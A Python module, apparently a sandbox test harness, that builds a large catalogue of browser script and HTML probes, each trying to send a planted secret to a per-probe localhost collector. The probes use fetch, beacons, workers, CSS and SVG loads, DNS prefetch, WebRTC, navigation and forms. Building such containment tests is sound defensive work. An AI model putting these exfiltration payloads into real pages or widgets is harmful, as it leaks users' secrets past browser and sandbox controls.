"""What a hostile widget tries, by group: each a script or a document, with {host} to get to.

{host} is a name of its own for each probe, with the planted secret in it: whoever looks it up,
connects to it or asks it for something has leaked. {port} is the collector's.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from dataclasses import dataclass

# Scripts that are to reach {url} = http://{host}:{port}/ in some way.
NETWORK = {
    "fetch": "fetch('{url}')",
    "fetch-no-cors": "fetch('{url}', {{mode: 'no-cors', method: 'POST', body: 'x'}})",
    "fetch-keepalive": "fetch('{url}', {{mode: 'no-cors', keepalive: true}})",
    "fetch-later": "fetchLater('{url}', {{activateAfter: 0}})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '{url}'); x.send()",
    "xhr-sync": "const x = new XMLHttpRequest(); x.open('GET', '{url}', false); x.send()",
    "beacon": "navigator.sendBeacon('{url}', 'x')",
    "event-source": "new EventSource('{url}')",
    "web-socket": "new WebSocket('{url}'.replace('http', 'ws'))",
    "web-transport": "new WebTransport('{url}'.replace('http', 'https'))",
    "image": "new Image().src = '{url}'",
    "image-attribution": "const i = new Image(); i.setAttribute('attributionsrc', '{url}')",
    "audio": "new Audio('{url}').play()",
    "font": "new FontFace('x', 'url({url})').load()",
    "module": "import('{url}')",
    "worker": "new Worker('{url}')",
    "worker-blob": "new Worker(URL.createObjectURL(new Blob([\"fetch('{url}')\"])))",
    "worker-data": "new Worker(\"data:text/javascript,fetch('{url}')\")",
    "shared-worker": "new SharedWorker('{url}')",
    "service-worker": "navigator.serviceWorker.register('{url}')",
    "paint-worklet": "CSS.paintWorklet.addModule('{url}')",
    "audio-worklet": "new AudioContext().audioWorklet.addModule('{url}')",
    "eval": "eval(\"fetch('{url}')\")",
    "payment": "new PaymentRequest([{{supportedMethods: '{url}'}}], {{total: {{label: 'x', "
    "amount: {{currency: 'EUR', value: '1'}}}}}}).canMakePayment()",
    "federated": "navigator.credentials.get({{identity: {{providers: [{{configURL: '{url}', "
    "clientId: 'x'}}]}}}})",
    "presentation": "new PresentationRequest('{url}').start()",
    "protocol-handler": "navigator.registerProtocolHandler('web+x', '{url}?%s')",
    "topics": "fetch('{url}', {{browsingTopics: true, mode: 'no-cors'}})",
    "cache": "caches.open('x').then((c) => c.add('{url}'))",
    "storage-access": "document.requestStorageAccess().then(() => fetch('{url}'))",
}

# HTML that is to do so when it is parsed. What uses an element is tried in the markup itself.
MARKUP = {
    "img": "<img src='{url}'>",
    "srcset": "<img srcset='{url} 1x'>",
    "picture": "<picture><source srcset='{url}'><img></picture>",
    "video": "<video src='{url}' poster='{url}' autoplay muted></video>",
    "track": "<video src='data:video/mp4,' crossorigin><track default src='{url}'></video>",
    "audio-element": "<audio src='{url}' autoplay></audio>",
    "input-image": "<input type=image src='{url}'>",
    "object": "<object data='{url}'></object>",
    "embed": "<embed src='{url}'>",
    "iframe": "<iframe src='{url}'></iframe>",
    "frameset": "<frameset><frame src='{url}'></frameset>",
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
    "iframe-srcdoc-script": "<iframe srcdoc=\"<script>fetch('{url}')</script>\"></iframe>",
    "iframe-srcdoc-rtc": '<iframe srcdoc="<script>{rtc}</script>"></iframe>',
    "iframe-javascript": "<iframe src=\"javascript:fetch('{url}')\"></iframe>",
    "fencedframe": "<fencedframe></fencedframe><script>document.querySelector('fencedframe')"
    ".config = new FencedFrameConfig('{url}')</script>",
    "background": "<body background='{url}'>",
    "script": "<script src='{url}'></script>",
    "script-module": "<script type=module src='{url}'></script>",
    "import-map": '<script type=importmap>{{"imports": {{"x": "{url}"}}}}</script>'
    "<script type=module>import 'x'</script>",
    "stylesheet": "<link rel=stylesheet href='{url}'>",
    "preload": "<link rel=preload as=image href='{url}'>",
    "modulepreload": "<link rel=modulepreload href='{url}'>",
    "prefetch": "<link rel=prefetch href='{url}'>",
    "prerender": "<link rel=prerender href='{url}'>",
    "icon": "<link rel=icon href='{url}'>",
    "manifest": "<link rel=manifest href='{url}'>",
    "css-import": "<style>@import '{url}';</style>",
    "css-background": "<style>html {{ background: url('{url}') }}</style>",
    "css-attribute": "<p data-x=hush>x</p><style>[data-x^=h] {{ list-style: url('{url}');"
    " display: list-item }}</style>",
    "css-font": "<style>@font-face {{ font-family: x; src: url('{url}') }} * {{ font-family: x }}"
    "</style>x",
    "css-image-set": "<style>html {{ background: image-set('{url}' 1x) }}</style>",
    "css-cursor": "<style>html {{ cursor: url('{url}'), auto }}</style>",
    "css-filter": "<style>html {{ filter: url('{url}#x') }}</style>x",
    "css-mask": "<style>html {{ mask: url('{url}#x') }}</style>x",
    "svg-image": "<svg><image href='{url}' width=9 height=9 /></svg>",
    "svg-use": "<svg><use href='{url}#x' /></svg>",
    "svg-foreign": "<svg><foreignObject width=9 height=9><img src='{url}' /></foreignObject></svg>",
    "svg-fe-image": "<svg><filter id=f><feImage href='{url}' /></filter>"
    "<rect filter='url(#f)' width=9 height=9 /></svg>",
    "svg-script": "<svg><script href='{url}' /></svg>",
    "svg-style": "<svg><style>* {{ fill: url('{url}#x') }}</style><rect width=9 height=9 /></svg>",
    "xslt": "<?xml-stylesheet href='{url}' type='text/xsl'?>",
    "csp-report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; "
    "report-uri {url}\"><img src='data:image/png,'>",
    "accept-ch": '<meta http-equiv=Accept-CH content="sec-ch-ua-model"><img src="{url}">',
    "portal": "<portal src='{url}'></portal>",
}

# Names and connections alone: a look-up of a name that holds the secret is a leak.
NAMES = {
    "dns-prefetch": "<link rel=dns-prefetch href='{url}'>",
    "dns-prefetch-on": "<meta http-equiv=x-dns-prefetch-control content=on>"
    "<link rel=dns-prefetch href='//{host}'><a href='{url}'>x</a>",
    "preconnect": "<link rel=preconnect href='{url}'>",
    "preconnect-late": "<script>const l = document.createElement('link'); l.rel = 'preconnect';"
    "l.href = '{url}'; document.head.append(l)</script>",
    "rtc-stun": "<script>{rtc}</script>",
    "rtc-turn": "<script>const p = new RTCPeerConnection({{iceServers: [{{urls: "
    "'turn:{host}:{port}?transport=tcp', username: 'x', credential: 'x'}}]}});"
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>",
    "rtc-candidate": "<script>const p = new RTCPeerConnection(); p.createDataChannel('x');"
    "p.createOffer().then((o) => p.setLocalDescription(o)).then(() => p.addIceCandidate("
    "{{candidate: 'candidate:1 1 UDP 1 {host} {port} typ host', sdpMid: '0'}}))</script>",
    "speculation-prefetch": '<script type=speculationrules>{{"prefetch": [{{"source": "list", '
    '"urls": ["{url}"]}}]}}</script>',
    "speculation-prerender": '<script type=speculationrules>{{"prerender": [{{"source": "list", '
    '"urls": ["{url}"]}}]}}</script>',
}

# Going somewhere else with the secret in the address.
NAVIGATION = {
    "location": "location = '{url}'",
    "location-replace": "location.replace('{url}')",
    "location-top": "top.location = '{url}'",
    "location-parent": "parent.location.href = '{url}'",
    "location-data": "location = \"data:text/html,<img src='{url}'>\"",
    "location-blob": "location = URL.createObjectURL(new Blob([\"<img src='{url}'>\"], "
    "{{type: 'text/html'}}))",
    "location-javascript": "location = \"javascript:'<img src={url}>'\"",
    "about-blank": "location = 'about:blank'; setTimeout(() => fetch('{url}'), 300)",
    "navigation-api": "navigation.navigate('{url}')",
    "meta-refresh": "document.head.innerHTML = \"<meta http-equiv=refresh content='0;url={url}'>\"",
    "base": "document.head.innerHTML = \"<base href='{url}'>\"; new Image().src = 'x'",
    "link-click": "const a = document.createElement('a'); a.href = '{url}'; document.body.append(a)"
    "; a.click()",
    "link-top": "const a = document.createElement('a'); a.href = '{url}'; a.target = '_top';"
    "document.body.append(a); a.click()",
    "link-named": "const a = document.createElement('a'); a.href = '{url}'; a.target = 'other';"
    "document.body.append(a); a.click()",
    "link-ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = '{url}';"
    "document.body.append(a); a.click()",
    "download": "const a = document.createElement('a'); a.href = '{url}'; a.download = 'x';"
    "document.body.append(a); a.click()",
    "download-blob": "const a = document.createElement('a'); a.download = 'x.html';"
    "a.href = URL.createObjectURL(new Blob(['x'])); document.body.append(a); a.click()",
    "form": "document.body.innerHTML = \"<form method=post action='{url}'><input name=a></form>\";"
    "document.forms[0].submit()",
    "form-top": "document.body.innerHTML = \"<form target=_top action='{url}'></form>\";"
    "document.forms[0].submit()",
    "form-button": "document.body.innerHTML = \"<form><button formaction='{url}'></form>\";"
    "document.querySelector('button').click()",
    "open": "open('{url}')",
    "open-named": "open('{url}', 'other')",
    "open-self": "open('{url}', '_self')",
    "open-blank": "const w = open('about:blank'); w.location = '{url}'",
    "document-write": "document.open(); document.write(\"<meta http-equiv=refresh content='0;"
    "url={url}'>\"); document.close()",
    "picture-in-picture": "documentPictureInPicture.requestWindow().then((w) => "
    "{{ w.location = '{url}' }})",
}

RTC = (
    "const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}:{port}'}}]}});"
    "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
)


# Probes that change the document for all others in it, or may end their process.
_ALONE = {"frameset", "csp-report", "accept-ch", "import-map", "background"}
# Probes that take the whole page along where nothing stops them.
LEAVE_PAGE = {"location-top", "location-parent", "link-top", "form-top"}


@dataclass(frozen=True)
class Probe:
    """One attempt. `host` is the name that it alone would look up.

    `is_rtc`: it may not say to which host it connects, so that it needs a port of its own.
    """

    group: str
    name: str
    host: str
    html: str
    is_rtc: bool

    @property
    def id(self) -> str:
        return f"{self.group}-{self.name}"


def probes(secret: str, port: int, rtc_ports: Mapping[str, int]) -> list[Probe]:
    """All attempts, each with a host name of its own that holds the secret.

    They try to get to `port`, but for those of `rtc_ports`, by their ids.
    """
    groups = {
        "network": {**{n: _script(s) for n, s in NETWORK.items()}, **MARKUP},
        "names": NAMES,
        "navigation": {name: _script(script) for name, script in NAVIGATION.items()},
    }
    return [
        _probe(group, name, text, secret, rtc_ports.get(f"{group}-{name}", port))
        for group, found in groups.items()
        for name, text in found.items()
    ]


def documents(found: Iterable[Probe]) -> list[tuple[str, str]]:
    """The attempts as documents (name, HTML): together, but for those that disturb others."""
    together: dict[str, list[str]] = {}
    for each in found:
        is_alone = each.name in _ALONE or each.group == "navigation" or each.is_rtc
        together.setdefault(each.id if is_alone else each.group, []).append(each.html)
    return [(name, "<!doctype html><title>x</title>" + "".join(h)) for name, h in together.items()]


def _probe(group: str, name: str, text: str, secret: str, port: int) -> Probe:
    host = f"{group}-{name}-{secret}.localhost"
    values = {"host": host, "port": port, "url": f"http://{host}:{port}/{secret}"}
    is_rtc = "{rtc}" in text or "RTCPeerConnection" in text
    html = text.format(**values, rtc=RTC.format(**values))
    return Probe(group, name, host, html, is_rtc)


def _script(text: str) -> str:
    return f"<body><script>{{{{{text}}}}}</script>"
